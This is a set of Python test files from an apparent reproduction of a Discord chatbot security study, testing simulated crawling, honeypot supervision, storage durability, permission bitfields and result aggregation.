def test_append_file_lying_fsync_detected_on_next_sync(tmp_path):
    path = tmp_path / "log"
    log = DurableAppendFile(path, label="journal", fsync_every=1)
    log.write(b"first\n")
    log.commit()
    install_faults(OneShotFault("journal.fsync", "lost"))
    log.write(b"second\n")
    log.commit()  # the lying fsync: reports success, drops the record
    assert path.read_bytes() == b"first\n"
    log.write(b"third\n")
    with pytest.raises(DiskIOError, match="lost data"):
        log.commit()
    log.close()


def test_append_file_resumes_size_accounting_across_reopen(tmp_path):
    path = tmp_path / "log"
    first = DurableAppendFile(path, label="journal")
    first.write(b"a\n")
    first.commit()
    first.close()
    second = DurableAppendFile(path, label="journal")
    second.write(b"b\n")
    second.commit()
    second.close()
    assert path.read_bytes() == b"a\nb\n"


# -- checksum + scrub --------------------------------------------------------


def test_payload_checksum_ignores_the_checksum_field():
    body = {"x": 1, "y": [1, 2]}
    with_field = dict(body, checksum="anything")
    assert payload_checksum(body) == payload_checksum(with_field)
    assert payload_checksum(body) != payload_checksum({"x": 2, "y": [1, 2]})


def test_scrub_json_artifact_passes_intact_payloads(tmp_path):
    target = tmp_path / "state.json"
    payload = {"version": 1, "checksum": "", "state": {"k": "v"}}
    payload["checksum"] = payload_checksum(payload)
    atomic_write_json(target, payload, label="serving.state")
    scrubber = RecoveryManager()
    assert scrubber.scrub_json_artifact(target, artifact="serving.state") == payload
    assert scrubber.actions == []


def test_scrub_json_artifact_quarantines_damage_and_records_it(tmp_path):
    target = tmp_path / "state.json"
    payload = {"version": 1, "checksum": "", "state": {"k": "v"}}
    payload["checksum"] = payload_checksum(payload)
    target.write_text(json.dumps(payload)[:-5])  # torn mid-document
    ledger = FaultLedger()
    scrubber = RecoveryManager(ledger)
    assert scrubber.scrub_json_artifact(target, artifact="serving.state") is None
    assert not target.exists()
    assert target.with_name(target.name + ".corrupt").exists()
    assert ledger.records and ledger.records[0].stage == "storage"


def test_scrub_json_artifact_discards_stale_tmp(tmp_path):
    target = tmp_path / "state.json"
    stale_tmp_path(target).write_text("half a document")
    assert RecoveryManager().scrub_json_artifact(target, artifact="serving.state") is None
    assert not stale_tmp_path(target).exists()


def test_quarantine_artifact_sidelines_for_postmortem(tmp_path):
    target = tmp_path / "broken.json"
    target.write_text("garbage")
    sidecar = quarantine_artifact(target)
    assert sidecar == tmp_path / "broken.json.corrupt"
    assert sidecar.read_text() == "garbage"
    assert not target.exists()


def test_scrub_pipeline_checkpoint_resets_on_damaged_stage(tmp_path):
    from repro.core.checkpoint import PipelineCheckpoint

    path = tmp_path / "pipeline.ckpt"
    checkpoint = PipelineCheckpoint()
    # A stage payload that cannot round-trip (missing required fields).
    checkpoint.stages["honeypot"] = {"report": {"outcomes": "not-a-list"}}
    checkpoint.world_state = {"main": {}}
    checkpoint.save(path)
    ledger = FaultLedger()
    scrubbed = RecoveryManager(ledger).scrub_pipeline_checkpoint(path)
    assert scrubbed.stages == {}
    assert any(record.stage == "storage" for record in ledger.records)


def test_scrub_pipeline_checkpoint_requires_a_world_snapshot(tmp_path):
    from repro.core.checkpoint import PipelineCheckpoint
    from repro.honeypot.experiment import HoneypotReport

    path = tmp_path / "pipeline.ckpt"
    checkpoint = PipelineCheckpoint()
    checkpoint.store_honeypot(
        HoneypotReport(outcomes=[], triggers=[], manual_verifications=0, install_failures=0, captcha_cost=0.0)
    )
    checkpoint.save(path)  # stage present, world_state absent
    scrubbed = RecoveryManager().scrub_pipeline_checkpoint(path)
    assert scrubbed.stages == {}


def test_scrub_pipeline_checkpoint_trusts_a_whole_artifact_set(tmp_path):
    from repro.core.checkpoint import PipelineCheckpoint
    from repro.honeypot.experiment import HoneypotReport

    path = tmp_path / "pipeline.ckpt"
    checkpoint = PipelineCheckpoint()
    checkpoint.store_honeypot(
        HoneypotReport(outcomes=[], triggers=[], manual_verifications=0, install_failures=0, captcha_cost=0.0)
    )
    checkpoint.world_state = {"main": {"clock": 0.0}}
    checkpoint.save(path)
    scrubber = RecoveryManager()
    scrubbed = scrubber.scrub_pipeline_checkpoint(path)
    assert scrubbed.completed_stages == ["honeypot"]
    assert scrubber.actions == []


# -- typed error contract ----------------------------------------------------


def test_error_taxonomy_keeps_legacy_catches_working():
    from repro.core.checkpoint import CheckpointCorruptionError as PipelineCorruption
    from repro.scraper.checkpoint import CheckpointCorruptionError as CrawlCorruption

    assert issubclass(DiskFullError, OSError)
    assert issubclass(DiskIOError, OSError)
    assert issubclass(ArtifactCorruptionError, ValueError)
    for error in (DiskFullError, DiskIOError, ArtifactCorruptionError, PipelineCorruption, CrawlCorruption):
        assert issubclass(error, StorageError)
    # Pre-existing `except ValueError` salvage paths still catch corruption.
    assert issubclass(PipelineCorruption, ValueError)
    assert issubclass(CrawlCorruption, ValueError)


# -- serving state persistence -----------------------------------------------


def _service(internet, state_path, bots=None):
    from repro.ecosystem.generator import EcosystemConfig, generate_ecosystem
    from repro.serving.service import ServicePolicy, VettingService

    population = bots if bots is not None else generate_ecosystem(
        EcosystemConfig(n_bots=12, seed=5)
    ).bots
    return VettingService(
        internet,
        population,
        policy=ServicePolicy(warmup=0.0),
        seed=5,
        state_path=state_path,
    ), population


def test_serving_state_round_trips_through_disk(internet, tmp_path):
    state = tmp_path / "gate.state"
    service, bots = _service(internet, state)
    verdict = {"bot": bots[0].name, "verdict": "approved"}
    service.cache.store(bots[0], verdict, now=internet.clock.now())
    service.shutdown()  # persists
    assert state.exists()
    reborn, _ = _service(internet, state, bots=bots)
    entry = reborn.cache.entries[bots[0].name]
    assert entry.payload == verdict
    assert not reborn.ledger.records  # clean load, nothing scrubbed


def test_serving_state_corruption_means_cold_start(internet, tmp_path):
    state = tmp_path / "gate.state"
    service, bots = _service(internet, state)
    service.cache.store(bots[0], {"verdict": "approved"}, now=internet.clock.now())
    service.shutdown()
    blob = bytearray(state.read_bytes())
    blob[len(blob) // 2] ^= 0xFF
    state.write_bytes(bytes(blob))
    reborn, _ = _service(internet, state, bots=bots)
    assert len(reborn.cache.entries) == 0
    assert state.with_name(state.name + ".corrupt").exists()
    assert any(record.stage == "storage" for record in reborn.ledger.records)


def test_serving_state_version_skew_means_cold_start(internet, tmp_path):
    state = tmp_path / "gate.state"
    payload = {"version": 999, "checksum": "", "state": {}}
    payload["checksum"] = payload_checksum(payload)
    state.write_text(json.dumps(payload))
    reborn, _ = _service(internet, state)
    assert len(reborn.cache.entries) == 0
    assert any(record.stage == "storage" for record in reborn.ledger.records)


# -- the single-implementation lint ------------------------------------------


def test_no_durability_syscalls_outside_the_storage_layer():
    """All durable I/O must route through repro.core.storage.

    Grep-style lint: outside the storage module itself, no source file may
    call ``os.fsync``/``os.fdatasync`` or hand-roll ``.tmp`` rename
    staging — those are exactly the patterns the unified layer exists to
    own (and the fault shim can only inject under).
    """
    src = Path(__file__).resolve().parent.parent / "src" / "repro"
    offenders: list[str] = []
    for path in sorted(src.rglob("*.py")):
        if path.name == "storage.py" and path.parent.name == "core":
            continue
        text = path.read_text()
        for needle in ("os.fsync(", "os.fdatasync(", '".tmp"', "'.tmp'"):
            if needle in text:
                offenders.append(f"{path.relative_to(src)}: {needle}")
    assert offenders == [], f"durability primitives outside repro.core.storage: {offenders}"
