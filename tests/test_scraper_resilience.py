"""Failure-path tests for the scraper layer: garbage headers, dead pages,
captcha budget exhaustion and circuit breakers."""

import pytest

from repro.botstore.host import StoreDefenses, build_store_host
from repro.core.resilience import CircuitBreakerRegistry, CircuitOpenError, RetryBudget
from repro.ecosystem.generator import EcosystemConfig, generate_ecosystem
from repro.scraper.base import CaptchaBudgetExhaustedError, PoliteScraper, ScraperConfig
from repro.scraper.topgg import TopGGScraper
from repro.sites.discordweb import DiscordWebsite
from repro.web.captcha import TwoCaptchaClient
from repro.web.http import Response
from repro.web.network import ConnectionFailedError
from repro.web.server import VirtualHost


@pytest.fixture
def store_world(internet, clock):
    ecosystem = generate_ecosystem(EcosystemConfig(n_bots=75, seed=31, honeypot_window=10))
    build_store_host(ecosystem, internet, StoreDefenses(captcha_enabled=False))
    DiscordWebsite(ecosystem).register(internet)
    solver = TwoCaptchaClient(clock, accuracy=1.0)
    return ecosystem, internet, solver


def _recording_sink(records):
    def sink(host, error, bots_skipped, detail):
        records.append((host, error, bots_skipped, detail))

    return sink


# -- Retry-After hardening ---------------------------------------------------


class TestRetryAfter:
    def _scraper(self, internet):
        return PoliteScraper(internet, config=ScraperConfig(retry_backoff=7.0, respect_robots=False))

    def _response_with(self, retry_after):
        response = Response.text("slow down", status=429)
        if retry_after is not None:
            response.headers["Retry-After"] = retry_after
        return response

    @pytest.mark.parametrize("garbage", ["a while", "soonish", "NaN", "inf", "-3", ""])
    def test_garbage_values_fall_back_to_backoff(self, internet, garbage):
        scraper = self._scraper(internet)
        assert scraper._retry_after_seconds(self._response_with(garbage)) == 7.0

    def test_garbage_values_are_counted(self, internet):
        scraper = self._scraper(internet)
        scraper._retry_after_seconds(self._response_with("a while"))
        scraper._retry_after_seconds(self._response_with("-1"))
        assert scraper.stats.malformed_retry_after == 2
        # Absent/blank headers fall back too, but are not "malformed".
        scraper._retry_after_seconds(self._response_with(None))
        assert scraper.stats.malformed_retry_after == 2

    def test_numeric_value_honoured(self, internet):
        scraper = self._scraper(internet)
        assert scraper._retry_after_seconds(self._response_with("3.5")) == 3.5

    def test_fetch_survives_garbage_header_end_to_end(self, internet):
        host = VirtualHost("grumpy")
        state = {"first": True}

        def handler(request):
            if state["first"]:
                state["first"] = False
                response = Response.text("rate limited", status=429)
                response.headers["Retry-After"] = "a while"
                return response
            return Response.html("<html><p>fine</p></html>")

        host.add_route("/page", handler)
        internet.register("grumpy.sim", host)
        scraper = self._scraper(internet)
        before = internet.clock.now()
        response = scraper.fetch("https://grumpy.sim/page")
        assert response.status == 200
        assert scraper.stats.malformed_retry_after == 1
        assert scraper.stats.rate_limited == 1
        # The wait used the configured backoff, not a parse of "a while".
        assert internet.clock.now() - before >= 7.0


# -- crawl degradation -------------------------------------------------------


class TestCrawlDegradation:
    def test_connection_failure_mid_pagination_degrades(self, store_world):
        ecosystem, internet, solver = store_world
        scraper = TopGGScraper(internet, solver=solver)
        original = scraper._scrape_list_page

        def flaky_list_page(page_number):
            if page_number >= 2:
                raise ConnectionFailedError("top.gg.sim")
            return original(page_number)

        scraper._scrape_list_page = flaky_list_page
        records = []
        result = scraper.crawl(resolve_permissions=False, on_fault=_recording_sink(records))
        assert len(result.bots) == 25  # page 1 only
        assert len(records) == 1
        host, error, skipped, detail = records[0]
        assert host == "top.gg.sim"
        assert isinstance(error, ConnectionFailedError)
        assert "pagination abandoned" in detail

    def test_connection_failure_without_sink_still_raises(self, store_world):
        ecosystem, internet, solver = store_world
        scraper = TopGGScraper(internet, solver=solver)

        def dead_list_page(page_number):
            raise ConnectionFailedError("top.gg.sim")

        scraper._scrape_list_page = dead_list_page
        with pytest.raises(ConnectionFailedError):
            scraper.crawl(resolve_permissions=False)

    def test_captcha_budget_exhaustion_aborts_crawl(self, internet, clock):
        ecosystem = generate_ecosystem(EcosystemConfig(n_bots=75, seed=31, honeypot_window=10))
        # Captcha walls every 10 requests, but funds for only one solve.
        build_store_host(
            ecosystem, internet, StoreDefenses(captcha_every=10, captcha_clearance=5)
        )
        DiscordWebsite(ecosystem).register(internet)
        broke_solver = TwoCaptchaClient(clock, balance=0.004, price_per_solve=0.003, accuracy=1.0)
        scraper = TopGGScraper(internet, solver=broke_solver)
        records = []
        result = scraper.crawl(resolve_permissions=False, on_fault=_recording_sink(records))
        assert len(result.bots) < len(ecosystem.bots)  # aborted early
        assert any(isinstance(r[1], CaptchaBudgetExhaustedError) for r in records)
        assert any("crawl aborted" in r[3] for r in records)

    def test_captcha_budget_exhaustion_without_sink_raises(self, internet, clock):
        ecosystem = generate_ecosystem(EcosystemConfig(n_bots=75, seed=31, honeypot_window=10))
        build_store_host(
            ecosystem, internet, StoreDefenses(captcha_every=10, captcha_clearance=5)
        )
        DiscordWebsite(ecosystem).register(internet)
        broke_solver = TwoCaptchaClient(clock, balance=0.004, price_per_solve=0.003, accuracy=1.0)
        scraper = TopGGScraper(internet, solver=broke_solver)
        with pytest.raises(CaptchaBudgetExhaustedError):
            scraper.crawl(resolve_permissions=False)


# -- circuit breakers in the fetch path -------------------------------------


class TestCircuitInFetch:
    def test_open_circuit_with_no_budget_short_circuits(self, store_world, clock):
        ecosystem, internet, solver = store_world
        breakers = CircuitBreakerRegistry(clock, failure_threshold=1)
        breakers.record_failure("top.gg.sim")
        scraper = TopGGScraper(
            internet, solver=solver, breakers=breakers, retry_budget=RetryBudget(0)
        )
        with pytest.raises(CircuitOpenError):
            scraper.fetch("https://top.gg.sim/list/top?page=1")
        assert scraper.stats.circuit_short_circuits == 1

    def test_open_circuit_is_waited_out_on_the_virtual_clock(self, store_world, clock):
        ecosystem, internet, solver = store_world
        breakers = CircuitBreakerRegistry(clock, failure_threshold=1, recovery_time=40.0)
        breakers.record_failure("top.gg.sim")
        scraper = TopGGScraper(
            internet, solver=solver, breakers=breakers, retry_budget=RetryBudget(10)
        )
        before = clock.now()
        response = scraper.fetch("https://top.gg.sim/list/top?page=1")
        assert response.status == 200
        assert clock.now() - before >= 40.0  # politely slept through recovery

    def test_successful_fetches_close_the_probing_circuit(self, store_world, clock):
        ecosystem, internet, solver = store_world
        breakers = CircuitBreakerRegistry(clock, failure_threshold=1, recovery_time=10.0)
        breakers.record_failure("top.gg.sim")
        scraper = TopGGScraper(
            internet, solver=solver, breakers=breakers, retry_budget=RetryBudget(10)
        )
        scraper.fetch("https://top.gg.sim/list/top?page=1")
        scraper.fetch("https://top.gg.sim/list/top?page=1")
        from repro.core.resilience import CircuitState

        assert breakers.breaker("top.gg.sim").state is CircuitState.CLOSED


# -- truncated consent pages -------------------------------------------------


class TestTruncatedConsentPage:
    """A consent page cut mid-token must degrade, not poison ``.permissions``.

    Chaos truncation can slice a body in the middle of a permission label;
    the mangled token used to be stored verbatim and crashed every later
    ``Permissions.from_names()`` call deep in the analysis stages.
    """

    def _bot(self, invite_url):
        from repro.scraper.topgg import ScrapedBot

        return ScrapedBot(
            listing_id=1,
            name="Chopped",
            developer_tag="dev#0001",
            tags=(),
            description="",
            guild_count=0,
            votes=0,
            invite_url=invite_url,
            website_url=None,
            github_url=None,
            built_with=None,
        )

    def test_unparseable_permission_tokens_are_dropped(self, internet):
        from repro.discordsim.permissions import Permission
        from repro.scraper.topgg import PermissionStatus

        truncated = (
            '<html><body><ul id="permission-list">'
            '<li class="permission-item">send messages</li>'
            '<li class="permission-item">create inv'
        )
        host = VirtualHost("consent")
        host.add_route("/oauth2/authorize", lambda request: Response.html(truncated))
        internet.register("consent.sim", host)
        scraper = TopGGScraper(internet, config=ScraperConfig(respect_robots=False))

        bot = self._bot("https://consent.sim/oauth2/authorize")
        status = scraper.resolve_permissions(bot)

        assert status is PermissionStatus.VALID
        assert bot.permission_names == ("send messages",)
        assert bot.permissions.has(Permission.SEND_MESSAGES)  # no KeyError
        assert scraper.stats.element_misses >= 1
