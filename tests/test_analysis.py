"""Tests for the aggregation layer: Fig 3, Tables 1-2, code stats, rendering."""

import pytest

from repro.analysis import (
    CodeAnalysisSummary,
    DeveloperDistribution,
    PermissionDistribution,
    TraceabilitySummary,
    render_bar_chart,
    render_table,
)
from repro.codeanalysis.analyzer import RepoAnalysis
from repro.scraper.topgg import PermissionStatus, ScrapedBot
from repro.traceability.analyzer import TraceabilityClass, TraceabilityResult


def _bot(name, developer="dev#1", status=PermissionStatus.VALID, permissions=(), **kwargs):
    return ScrapedBot(
        listing_id=hash(name) % 10_000,
        name=name,
        developer_tag=developer,
        tags=("fun",),
        description="",
        guild_count=10,
        votes=5,
        invite_url="https://discord.sim/oauth2/authorize?client_id=1&scope=bot",
        website_url=kwargs.get("website_url"),
        github_url=kwargs.get("github_url"),
        built_with=None,
        permission_status=status,
        permission_names=tuple(permissions),
    )


class TestPermissionDistribution:
    def test_percentages_over_valid_bots(self):
        bots = [
            _bot("a", permissions=("administrator", "send messages")),
            _bot("b", permissions=("send messages",)),
            _bot("c", status=PermissionStatus.REMOVED),
        ]
        dist = PermissionDistribution.from_bots(bots)
        assert dist.total_bots == 3
        assert dist.valid_bots == 2
        assert dist.send_messages_percent == pytest.approx(100.0)
        assert dist.administrator_percent == pytest.approx(50.0)
        assert dist.valid_fraction == pytest.approx(2 / 3)

    def test_admin_with_extras(self):
        bots = [
            _bot("a", permissions=("administrator", "send messages")),
            _bot("b", permissions=("administrator",)),
        ]
        dist = PermissionDistribution.from_bots(bots)
        assert dist.admin_with_extras == 1
        assert dist.admin_with_extras_fraction == pytest.approx(0.5)

    def test_top_permissions_ranked(self):
        bots = [
            _bot("a", permissions=("send messages", "speak")),
            _bot("b", permissions=("send messages",)),
        ]
        top = PermissionDistribution.from_bots(bots).top_permissions(1)
        assert top == [("send messages", 100.0)]

    def test_fig3_series_alphabetical(self):
        bots = [_bot("a", permissions=("speak", "administrator", "connect"))]
        series = PermissionDistribution.from_bots(bots).fig3_series()
        labels = [label for label, _ in series]
        assert labels == sorted(labels)

    def test_invalid_breakdown(self):
        bots = [
            _bot("a"),
            _bot("b", status=PermissionStatus.TIMEOUT),
            _bot("c", status=PermissionStatus.INVALID_LINK),
            _bot("d", status=PermissionStatus.REMOVED),
        ]
        breakdown = PermissionDistribution.from_bots(bots).invalid_breakdown()
        assert breakdown == {"invalid_link": 1, "removed": 1, "timeout": 1}

    def test_empty_population(self):
        dist = PermissionDistribution.from_bots([])
        assert dist.valid_fraction == 0.0
        assert dist.percent("speak") == 0.0


class TestDeveloperDistribution:
    def test_table1_shape(self):
        bots = [
            _bot("a", developer="x#1"),
            _bot("b", developer="x#1"),
            _bot("c", developer="y#2"),
            _bot("d", developer="z#3"),
        ]
        table = DeveloperDistribution.from_bots(bots).table1()
        assert table == [(1, 2, pytest.approx(200 / 3)), (2, 1, pytest.approx(100 / 3))]

    def test_most_prolific(self):
        bots = [_bot("a", developer="x#1"), _bot("b", developer="x#1"), _bot("c", developer="y#2")]
        dist = DeveloperDistribution.from_bots(bots)
        assert dist.most_prolific() == ("x#1", 2)
        assert dist.max_bots_by_one_developer == 2

    def test_percent_with_one_bot(self):
        bots = [_bot("a", developer="x#1"), _bot("b", developer="y#2")]
        assert DeveloperDistribution.from_bots(bots).percent_with_one_bot() == 100.0

    def test_missing_developer_tags_skipped(self):
        bots = [_bot("a", developer="")]
        assert DeveloperDistribution.from_bots(bots).total_developers == 0


class TestTraceabilitySummary:
    def _result(self, name, classification, website=False, link=False, valid=False, generic=False):
        return TraceabilityResult(
            bot_name=name,
            classification=classification,
            has_website=website,
            has_policy_link=link,
            policy_page_valid=valid,
            generic_policy=generic,
        )

    def test_table2_counts(self):
        results = [
            self._result("a", TraceabilityClass.BROKEN),
            self._result("b", TraceabilityClass.BROKEN, website=True),
            self._result("c", TraceabilityClass.PARTIAL, website=True, link=True, valid=True),
        ]
        summary = TraceabilitySummary.from_results(results)
        table = dict((row[0], (row[1], row[2])) for row in summary.table2())
        assert table["Unique active chatbots"] == (3, 100.0)
        assert table["Website Link"][0] == 2
        assert table["Privacy Policy Link"][0] == 1
        assert table["Privacy Policy"][0] == 1

    def test_broken_fraction(self):
        results = [
            self._result("a", TraceabilityClass.BROKEN),
            self._result("b", TraceabilityClass.PARTIAL, website=True, link=True, valid=True),
        ]
        assert TraceabilitySummary.from_results(results).broken_fraction == pytest.approx(0.5)

    def test_generic_fraction(self):
        results = [
            self._result("a", TraceabilityClass.PARTIAL, website=True, link=True, valid=True, generic=True),
            self._result("b", TraceabilityClass.PARTIAL, website=True, link=True, valid=True, generic=False),
        ]
        assert TraceabilitySummary.from_results(results).generic_fraction_of_valid == pytest.approx(0.5)


class TestCodeSummary:
    def _analysis(self, name, valid=True, language=None, check=False):
        return RepoAnalysis(
            bot_name=name,
            link_valid=valid,
            main_language=language,
            has_source_code=language is not None,
            performs_check=check,
        )

    def test_funnel_percentages(self):
        analyses = [
            self._analysis("a", language="JavaScript", check=True),
            self._analysis("b", language="Python"),
            self._analysis("c", valid=False),
        ]
        summary = CodeAnalysisSummary.from_analyses(active_bots=10, github_links=3, analyses=analyses)
        assert summary.github_link_percent == pytest.approx(30.0)
        assert summary.valid_repos == 2
        assert summary.valid_repo_percent_of_links == pytest.approx(200 / 3)
        assert summary.with_source_code == 2
        assert summary.source_percent_of_active == pytest.approx(20.0)

    def test_check_rates(self):
        analyses = [
            self._analysis("a", language="JavaScript", check=True),
            self._analysis("b", language="JavaScript", check=False),
            self._analysis("c", language="Python", check=False),
        ]
        summary = CodeAnalysisSummary.from_analyses(10, 3, analyses)
        assert summary.check_rate("JavaScript") == pytest.approx(0.5)
        assert summary.check_rate("Python") == 0.0
        table = {row[0]: row for row in summary.check_table()}
        assert table["JavaScript"] == ("JavaScript", 2, 1, pytest.approx(50.0))

    def test_language_percent(self):
        analyses = [
            self._analysis("a", language="JavaScript"),
            self._analysis("b", language="Python"),
        ]
        summary = CodeAnalysisSummary.from_analyses(10, 2, analyses)
        assert summary.language_percent("JavaScript") == pytest.approx(50.0)


class TestRendering:
    def test_table_contains_cells(self):
        text = render_table(("A", "B"), [(1, "x"), (2, "y")], title="T")
        assert "T" in text and "| 1" in text and "| y" in text

    def test_table_alignment(self):
        text = render_table(("Name",), [("short",), ("a-much-longer-value",)])
        lines = [line for line in text.splitlines() if line.startswith("|")]
        assert len({len(line) for line in lines}) == 1

    def test_bar_chart_scales(self):
        text = render_bar_chart([("a", 50.0), ("b", 100.0)], width=10)
        line_a, line_b = text.splitlines()
        assert line_a.count("#") == 5 and line_b.count("#") == 10

    def test_bar_chart_empty(self):
        assert render_bar_chart([], title="Nothing") == "Nothing"

    def test_bar_chart_clamps(self):
        text = render_bar_chart([("a", 120.0)], width=10, max_value=100.0)
        assert text.count("#") == 10
