"""End-to-end supervision: adversarial bots quarantined, everyone else intact.

The contract under test is *blast-radius zero*: planting a crasher, a
flooder and a staller into the honeypot sample must quarantine exactly
those three runtimes — with the right reasons and root causes in the
ledger — while every other bot's statistics stay byte-identical to an
adversary-free run, sequentially and under ``shards=4``.

``use_osn_feed=False`` keeps the conversation feed per-bot-deterministic
(the scraped OSN feed is a shared sequential source, so an adversary
aborting mid-feed would shift which messages later bots receive — a
feed-content difference, not a supervision leak).
"""

from collections import Counter

import pytest

from repro.core.checkpoint import STAGE_HONEYPOT
from repro.core.config import PipelineConfig
from repro.core.pipeline import AssessmentPipeline
from repro.core.supervision import REASON_CRASH, REASON_DEADLINE, REASON_EVENT_FLOOD

SAMPLE = 12
ADVERSARIES = 3


def _config(**overrides) -> PipelineConfig:
    defaults = dict(
        n_bots=60,
        seed=3,
        honeypot_sample_size=SAMPLE,
        validation_sample_size=20,
        use_osn_feed=False,
    )
    defaults.update(overrides)
    return PipelineConfig(**defaults)


def _outcome_dict(outcome) -> dict:
    """One honeypot outcome as a comparable dict (no process-local ids)."""
    return {
        "bot_name": outcome.bot_name,
        "installed": outcome.installed,
        "tokens_deployed": outcome.tokens_deployed,
        "trigger_kinds": sorted(kind.value for kind in outcome.trigger_kinds),
        "suspicious_messages": list(outcome.suspicious_messages),
        "functionality_explained": outcome.functionality_explained,
        "quarantined": outcome.quarantined,
    }


def _stage_statistics(result) -> dict:
    """Everything the pre-honeypot stages report, as a comparable dict."""
    return {
        "bots": result.bots_collected,
        "active": result.active_bots,
        "listing_ids": sorted(bot.listing_id for bot in result.crawl.bots),
        "trace_classes": Counter(r.classification.value for r in result.traceability_results),
        "validation_accuracy": result.validation.accuracy if result.validation else None,
        "repo_languages": Counter(a.main_language for a in result.repo_analyses),
        "repos_with_checks": sum(1 for a in result.repo_analyses if a.performs_check),
    }


@pytest.fixture(scope="module")
def baseline():
    return AssessmentPipeline(_config()).run()


@pytest.fixture(scope="module")
def hostile():
    return AssessmentPipeline(_config(adversarial_bots=ADVERSARIES)).run()


@pytest.fixture(scope="module")
def baseline_sharded():
    return AssessmentPipeline(_config(shards=4)).run()


@pytest.fixture(scope="module")
def hostile_sharded():
    return AssessmentPipeline(_config(shards=4, adversarial_bots=ADVERSARIES)).run()


def _assert_adversaries_contained(hostile_result, baseline_result):
    quarantines = hostile_result.quarantines
    assert len(quarantines) == ADVERSARIES
    assert all(record.stage == STAGE_HONEYPOT for record in quarantines.records)
    # The rotation plants one of each misbehaviour.
    assert set(quarantines.by_reason()) == {REASON_CRASH, REASON_EVENT_FLOOD, REASON_DEADLINE}

    # Root causes in the fault ledger name the actual exception classes.
    ledger_records = hostile_result.fault_ledger.quarantine_records()
    assert len(ledger_records) == ADVERSARIES
    assert {record.error_class for record in ledger_records} == {
        "RuntimeError",
        "EventBudgetExceeded",
        "DeadlineExceeded",
    }

    # Stages before the honeypot never see the planted behaviours.
    assert _stage_statistics(hostile_result) == _stage_statistics(baseline_result)

    # Every non-planted bot's honeypot outcome is identical.
    planted = set(quarantines.bot_names())
    assert len(planted) == ADVERSARIES
    hostile_outcomes = {o.bot_name: o for o in hostile_result.honeypot.outcomes}
    baseline_outcomes = {o.bot_name: o for o in baseline_result.honeypot.outcomes}
    assert set(hostile_outcomes) == set(baseline_outcomes)  # nobody lost, nobody gained
    for name in set(hostile_outcomes) - planted:
        assert _outcome_dict(hostile_outcomes[name]) == _outcome_dict(baseline_outcomes[name]), name
    for name in planted:
        assert hostile_outcomes[name].quarantined
        assert not hostile_outcomes[name].flagged  # a quarantined bot is not a detection

    # Accounting closes: processed + skipped + quarantined == sample.
    entry = hostile_result.metrics.stage(STAGE_HONEYPOT)
    assert entry is not None
    assert entry.bots_quarantined == ADVERSARIES
    assert entry.bots_processed + entry.bots_skipped + entry.bots_quarantined == SAMPLE


class TestSequential:
    def test_adversaries_quarantined_everyone_else_identical(self, hostile, baseline):
        _assert_adversaries_contained(hostile, baseline)

    def test_baseline_run_quarantines_nobody(self, baseline):
        assert len(baseline.quarantines) == 0
        assert baseline.metrics.stage(STAGE_HONEYPOT).bots_quarantined == 0
        assert not baseline.fault_ledger.quarantine_records()

    def test_quarantine_reaches_report_and_json(self, hostile):
        from repro.core.report import render_full_report
        from repro.core.serialize import result_to_dict

        report = render_full_report(hostile)
        assert "Supervision: quarantined runtimes" in report
        for name in hostile.quarantines.bot_names():
            assert name in report

        payload = result_to_dict(hostile)
        assert payload["quarantine"]["count"] == ADVERSARIES
        assert set(payload["quarantine"]["by_reason"]) == {
            REASON_CRASH,
            REASON_EVENT_FLOOD,
            REASON_DEADLINE,
        }
        assert payload["honeypot"]["bots_quarantined"] == ADVERSARIES
        assert payload["honeypot"]["bots_processed"] == SAMPLE - ADVERSARIES


class TestSharded:
    def test_adversaries_quarantined_everyone_else_identical(self, hostile_sharded, baseline_sharded):
        _assert_adversaries_contained(hostile_sharded, baseline_sharded)

    def test_sharded_quarantines_match_sequential(self, hostile_sharded, hostile):
        sharded = {(r.bot_name, r.reason) for r in hostile_sharded.quarantines.records}
        sequential = {(r.bot_name, r.reason) for r in hostile.quarantines.records}
        assert sharded == sequential


class TestCheckpointedAdversaries:
    def test_kill_and_resume_preserves_quarantines(self, tmp_path, hostile):
        path = str(tmp_path / "pipeline.json")
        interrupted = AssessmentPipeline(_config(adversarial_bots=ADVERSARIES, checkpoint_path=path))

        def killed(*args, **kwargs):
            raise KeyboardInterrupt

        interrupted.analyze_code = killed
        with pytest.raises(KeyboardInterrupt):
            interrupted.run()

        resumed = AssessmentPipeline(
            _config(adversarial_bots=ADVERSARIES, checkpoint_path=path)
        ).run()
        _assert_adversaries_contained(resumed, hostile)

    def test_resume_after_honeypot_restores_quarantines_from_disk(self, tmp_path, hostile):
        path = str(tmp_path / "pipeline.json")
        first = AssessmentPipeline(_config(adversarial_bots=ADVERSARIES, checkpoint_path=path)).run()
        resumed = AssessmentPipeline(_config(adversarial_bots=ADVERSARIES, checkpoint_path=path)).run()
        assert all(status == "resumed" for status in resumed.stage_status.values())
        assert resumed.quarantines.records == first.quarantines.records
        quarantined = [o.bot_name for o in resumed.honeypot.quarantined_bots]
        assert sorted(quarantined) == sorted(first.quarantines.bot_names())
