"""Tests for the Discord permission bitfield model."""

import pytest

from repro.discordsim.permissions import (
    ALL_PERMISSIONS,
    DISPLAY_NAMES,
    Permission,
    PermissionOverwrite,
    Permissions,
    compute_base_permissions,
    compute_channel_permissions,
    permission_from_name,
)


class TestBitfieldLayout:
    def test_documented_bit_positions(self):
        # Spot-check the positions the paper's analysis relies on.
        assert Permission.ADMINISTRATOR.value == 1 << 3
        assert Permission.MANAGE_GUILD.value == 1 << 5
        assert Permission.VIEW_CHANNEL.value == 1 << 10
        assert Permission.SEND_MESSAGES.value == 1 << 11
        assert Permission.READ_MESSAGE_HISTORY.value == 1 << 16

    def test_every_permission_has_display_name(self):
        for flag in Permission:
            assert flag in DISPLAY_NAMES

    def test_display_names_unique(self):
        names = list(DISPLAY_NAMES.values())
        assert len(names) == len(set(names))

    def test_administrator_bitfield_is_8(self):
        # permissions=8 in an invite URL means administrator.
        assert Permissions.administrator().value == 8


class TestConstruction:
    def test_of_combines_flags(self):
        permissions = Permissions.of(Permission.KICK_MEMBERS, Permission.BAN_MEMBERS)
        assert permissions.value == (1 << 1) | (1 << 2)

    def test_from_api_names(self):
        permissions = Permissions.from_names(["SEND_MESSAGES", "kick_members"])
        assert permissions.has_exactly(Permission.SEND_MESSAGES)
        assert permissions.has_exactly(Permission.KICK_MEMBERS)

    def test_from_display_names(self):
        permissions = Permissions.from_names(["send messages", "mention @everyone"])
        assert permissions.has_exactly(Permission.MENTION_EVERYONE)

    def test_unknown_name_raises(self):
        with pytest.raises(KeyError):
            permission_from_name("fly to the moon")

    def test_unknown_bits_masked_off(self):
        permissions = Permissions(1 << 60)
        assert permissions.value == 0

    def test_immutable(self):
